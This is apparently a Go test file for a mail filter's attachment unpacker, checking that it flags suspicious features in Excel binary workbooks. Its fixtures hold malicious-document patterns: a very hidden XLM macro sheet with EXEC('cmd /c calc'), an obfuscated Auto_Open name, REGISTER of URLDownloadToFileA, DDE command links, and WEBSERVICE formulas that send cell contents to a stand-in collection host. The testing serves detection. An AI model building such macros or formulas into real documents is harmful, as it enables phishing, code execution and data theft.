package unpack

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"io"
	"slices"
	"strings"
	"testing"

	f "github.com/kensa-milter/kensa/internal/corpus/formats"
	"github.com/kensa-milter/kensa/internal/soffice"
)

func TestXLSBMacroSheet(t *testing.T) {
	wb := f.XLSWorkbook{
		Sheets: []f.XLSSheet{
			{Name: "Data", Formulas: []f.XLSFormula{{Rgce: f.Cat(f.PtgInt(1), f.PtgInt(2), f.PtgFuncVar(2, f.FtabSum, false))}, {Row: 4, Col: 1, Rgce: f.Cat(f.PtgInt(1), f.Ptg12NameX(2, 1), f.PtgAdd)}}},
			{Name: "Macro1", Macro: true, State: 2, Formulas: []f.XLSFormula{
				{Row: 0, Col: 0, Rgce: f.Cat(f.PtgChars("cmd /c calc"), f.PtgFuncVar(1, f.FtabExec, false))},
				{Row: 1, Col: 0, Rgce: f.Cat(f.Ptg12Str("URLMON"), f.Ptg12Str("URLDownloadToFileA"), f.Ptg12Str("JJCCJJ"), f.PtgFuncVar(3, f.FtabRegister, false))},
				{Row: 60000, Col: 2, Rgce: f.Cat(f.Ptg12Ref(69999, 1), f.PtgFuncVar(1, f.CetabFormula, true))},
			}},
		},
		Names: []f.XLSName{{Name: "Total", Rgce: f.Ptg12Ref3d(0, 0, 0)}, {Builtin: 1, Rgce: f.Ptg12Ref3d(1, 0, 0)}, {Name: "aUtO_oPeN_x", Rgce: f.PtgInt(1)}},
		DDE:   [][2]string{{"cmd", "/c notepad"}},
	}
	m := mail("book", "see attached", "book.xlsb", f.XLSB(wb))
	expand(t, m, Options{})
	l := string(mustPart(t, m, "2/book.xlsb/xlm/Macro1").Content)
	for _, want := range []string{
		XLMHeader + `"Macro1" (very hidden)`,
		XLMAutoRun + `"Auto_Open" (built-in) -> 'Macro1'!R1C1`,
		XLMAutoRun + `"aUtO_oPeN_x" -> 1`,
		XLMCharObf,
		`R1C1: =EXEC("cmd /c calc")`,
		`R2C1: =REGISTER("URLMON","URLDownloadToFileA","JJCCJJ")`,
		`R60001C3: =FORMULA(R70000C2)`,
	} {
		if !strings.Contains(l, want) {
			t.Errorf("listing lacks %q:\n%s", want, l)
		}
	}
	if strings.Contains(l, `"Total"`) {
		t.Errorf("an ordinary name is listed as auto-run:\n%s", l)
	}
	if part(m, "2/book.xlsb/xlm/Data") != nil {
		t.Error("a worksheet is listed as a macro sheet")
	}
	if p := mustPart(t, m, "2/book.xlsb/dde-links"); string(p.Content) != "=cmd|'/c notepad'!A0\nData!R5C2: =1+cmd|'/c notepad'!A0\n" {
		t.Errorf("dde-links %q", p.Content)
	}

	// A macro sheet filed among the worksheets is still one: Excel goes
	// by the relationship's type, and so do we.
	m = mail("book", "see attached", "book.xlsb", renameMember(t, f.XLSB(wb), "xl/macrosheets/sheet1.bin", "xl/worksheets/sheet9.bin"))
	expand(t, m, Options{})
	if p := mustPart(t, m, "2/book.xlsb/xlm/Macro1"); !strings.Contains(string(p.Content), `=EXEC("cmd /c calc")`) {
		t.Errorf("moved macro sheet:\n%s", p.Content)
	}

	// An ordinary binary workbook: no listing, no links.
	m = mail("book", "see attached", "sums.xlsb", f.XLSB(f.XLSWorkbook{Sheets: wb.Sheets[:1]}))
	expand(t, m, Options{})
	for _, p := range m.Parts {
		if strings.Contains(p.Path, "/xlm/") || strings.HasSuffix(p.Path, "/dde-links") {
			t.Errorf("plain workbook gave %s", p.Path)
		}
	}
}

// TestXLSBWebFormulas: an .xlsb whose cell calls WEBSERVICE (a future
// function kept as a name, as LibreOffice reads it: TestLibreOfficeReadsOurWorkbooks)
// lists what the address is built from, as an .xls does: the formulas and
// the string cells, shared and inline.
func TestXLSBWebFormulas(t *testing.T) {
	wb := f.XLSWorkbook{
		Sheets: []f.XLSSheet{{Name: "Form", Formulas: []f.XLSFormula{
			{Rgce: f.Cat(f.PtgName(1), f.Ptg12Ref(2, 0), f.PtgFuncVar(2, 0xFF, false))},
			{Row: 2, Rgce: f.Cat(f.Ptg12Str("https://collect.example.net/c?u="), f.Ptg12Ref(0, 1), f.PtgConcat)}},
			Cells: []f.XLSCell{{Row: 0, Col: 2, Text: "Your name"}, {Row: 3, Col: 3, Text: "Inline"}}}},
		Names:   []f.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
		Strings: []string{"Your name"}}
	m := mail("form", "see attached", "form.xlsb", f.XLSB(wb))
	expand(t, m, Options{})
	want := "Form!R1C1: =_xlfn.WEBSERVICE(R3C1)\n" +
		"Form!R3C1: =\"https://collect.example.net/c?u=\"&R1C2\n" +
		"Form!R1C3 = \"Your name\"\n" +
		"Form!R4C4 = \"Inline\"\n"
	if got := string(mustPart(t, m, "2/form.xlsb/web-formulas").Content); got != want {
		t.Errorf("web-formulas =\n%s\nwant\n%s", got, want)
	}
	// Without a web function, no listing.
	wb.Names = nil
	m = mail("form", "see attached", "form.xlsb", f.XLSB(wb))
	expand(t, m, Options{})
	for _, p := range m.Parts {
		if strings.HasSuffix(p.Path, "/web-formulas") {
			t.Errorf("a workbook without web calls has %s", p.Path)
		}
	}
}

func FuzzXLSB(fz *testing.F) {
	wb := f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "M", Macro: true, Formulas: []f.XLSFormula{{Rgce: f.Cat(f.Ptg12Str("ab"), f.PtgFuncVar(1, f.FtabExec, false))}}}},
		Names: []f.XLSName{{Builtin: 1, Rgce: f.Ptg12Ref3d(0, 0, 0)}}}
	fz.Add(f.XLSBWorkbookPart(wb))
	fz.Add([]byte{0x08, 0x80, 0x80, 0x80, 0x80, 0x01})
	fz.Fuzz(func(t *testing.T, b []byte) {
		env := &formulaEnv{biff12: true}
		wb := readXLSBWorkbook(b, env)
		var web webListing
		lines, dde, _ := readXLSBSheet(b, env, &web, "S", xlsbSharedStrings(b))
		if len(lines) > maxXLMLines || len(dde) > len(lines) || len(wb.autos) > maxBIFFNames || len(env.xti) > maxBIFFNames || len(web.lines) > maxXLMLines {
			t.Fatalf("%d lines, %d DDE, %d names, %d references", len(lines), len(dde), len(wb.autos), len(env.xti))
		}
		xlsbLink(b)
		packageRels(b, "xl")
		decompileFormula(b, env)
	})
}

// renameMember rewrites a package with member from renamed to, and every
// relationship target naming it too.
func renameMember(t *testing.T, pkg []byte, from, to string) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(pkg), int64(len(pkg)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, zf := range zr.File {
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(rc)
		rc.Close()
		name := zf.Name
		if name == from {
			name = to
		}
		b = bytes.ReplaceAll(b, []byte(strings.TrimPrefix(from, "xl/")), []byte(strings.TrimPrefix(to, "xl/")))
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(b)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func TestXLSBConnections(t *testing.T) {
	wb := f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Rates"}}, Connections: []f.XLSBConnection{
		{Name: "Rates", URL: "https://rates.example.net/today.html", RefreshOnLoad: true},
		{Name: "Prices", File: `\\203.0.113.7\share\prices.csv`},
		{Name: "Sales", ConnectionFile: `\\files.example.net@SSL\DavWWWRoot\sales.odc`, DataFile: `\\fs01\data\sales.accdb`},
	}}
	m := mail("book", "see attached", "book.xlsb", f.XLSB(wb))
	expand(t, m, Options{})
	got := XLSBConnections(mustPart(t, m, "2/book.xlsb/xl/connections.bin").Content)
	want := []XLSBConnection{{Name: "Rates", RefreshOnLoad: true, URL: "https://rates.example.net/today.html"}, {Name: "Prices", File: `\\203.0.113.7\share\prices.csv`},
		{Name: "Sales", ConnectionFile: `\\files.example.net@SSL\DavWWWRoot\sales.odc`, DataFile: `\\fs01\data\sales.accdb`}}
	if !slices.Equal(got, want) {
		t.Errorf("XLSBConnections = %+v, want %+v", got, want)
	}

	// The optional strings before the name (data file, connection file,
	// description) and after it (SSO), as their flags say.
	le := binary.LittleEndian
	wide := func(s string) []byte {
		b := le.AppendUint32(nil, uint32(len(s)))
		for _, c := range s {
			b = le.AppendUint16(b, uint16(c))
		}
		return b
	}
	d := append([]byte{3, 3, 0, 0, 0, 0}, le.AppendUint32(nil, 1<<5|1<<16|1<<17|1<<18|1<<20)...)
	d = append(d, make([]byte, 13)...)
	for _, s := range []string{"data.mdb", `\\h\s\c.odc`, "about", "Web1", "sso"} {
		d = append(d, wide(s)...)
	}
	rec := append([]byte{0xC9, 0x01, byte(len(d))}, d...)
	web := append([]byte{0x85, 0x02, 0}, append(le.AppendUint32([]byte{0, 0}, 1<<26|1<<24), append(wide("https://h.example/q"), wide("post")...)...)...)
	web[2] = byte(len(web) - 3)
	if got := XLSBConnections(append(rec, web...)); len(got) != 1 || got[0] != (XLSBConnection{Name: "Web1", RefreshOnLoad: true, URL: "https://h.example/q", DataFile: "data.mdb", ConnectionFile: `\\h\s\c.odc`}) {
		t.Errorf("XLSBConnections = %+v", got)
	}
	for n := range len(rec) + len(web) { // cut anywhere: no panic
		XLSBConnections(append(rec, web...)[:n])
	}
}

// Shared and array formulas as Excel saves them in an .xlsb (each cell a
// PtgExp, its first cell's column in the extra data, the formula once in
// a BrtShrFmla or BrtArrFmla after the first cell): LibreOffice reads each
// cell's formula, so the listing holds each, read for its own cell.
func TestXLSBSharedFormulasReadAsLibreOffice(t *testing.T) {
	xlsb := f.XLSB(f.XLSWorkbook{
		Sheets: []f.XLSSheet{{Name: "Order", Formulas: []f.XLSFormula{
			{Col: 1, Down: 3, Rgce: f.Cat(f.Ptg12Str("https://collect.example.net/c?n="), f.Ptg12RefN(0, -1), f.PtgConcat)},
			{Row: 5, Col: 3, Down: 2, Array: true, Rgce: f.Cat(f.Ptg12Str("https://collect.example.net/a?n="), f.Ptg12Ref(0, 0), f.PtgConcat)}},
			Cells: []f.XLSCell{{Row: 0, Col: 0, Text: "card"}}}},
		Strings: []string{"card"}})
	out, err := soffice.ConvertFiles(t.TempDir(), "fods", map[string][]byte{"order.xlsb": xlsb})
	if err != nil {
		t.Fatal(err)
	}
	lo := string(out["order.xlsb"])
	for _, w := range []string{`table:formula="of:=&quot;https://collect.example.net/c?n=&quot;&amp;[.A1]"`,
		`table:formula="of:=&quot;https://collect.example.net/c?n=&quot;&amp;[.A3]"`,
		`table:formula="of:=&quot;https://collect.example.net/a?n=&quot;&amp;[.A1]"`, `table:number-matrix-rows-spanned="2"`} {
		if !strings.Contains(lo, w) {
			t.Errorf("LibreOffice does not read %s", w)
		}
	}
	book := formulaEnv{biff12: true}
	lines, _, _ := readXLSBSheet(packageMember(t, xlsb, "xl/worksheets/sheet1.bin"), &book, nil, "", nil)
	want := []string{`R1C2: ="https://collect.example.net/c?n="&R1C1`, `R2C2: ="https://collect.example.net/c?n="&R2C1`,
		`R3C2: ="https://collect.example.net/c?n="&R3C1`, `R6C4: ="https://collect.example.net/a?n="&R1C1`, `R7C4: ="https://collect.example.net/a?n="&R1C1`}
	if !slices.Equal(lines, want) {
		t.Errorf("listing =\n%s\nwant\n%s", strings.Join(lines, "\n"), strings.Join(want, "\n"))
	}
}

// packageMember is the content of a package's member.
func packageMember(t *testing.T, pkg []byte, name string) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(pkg), int64(len(pkg)))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := zr.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	b, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	return b
}
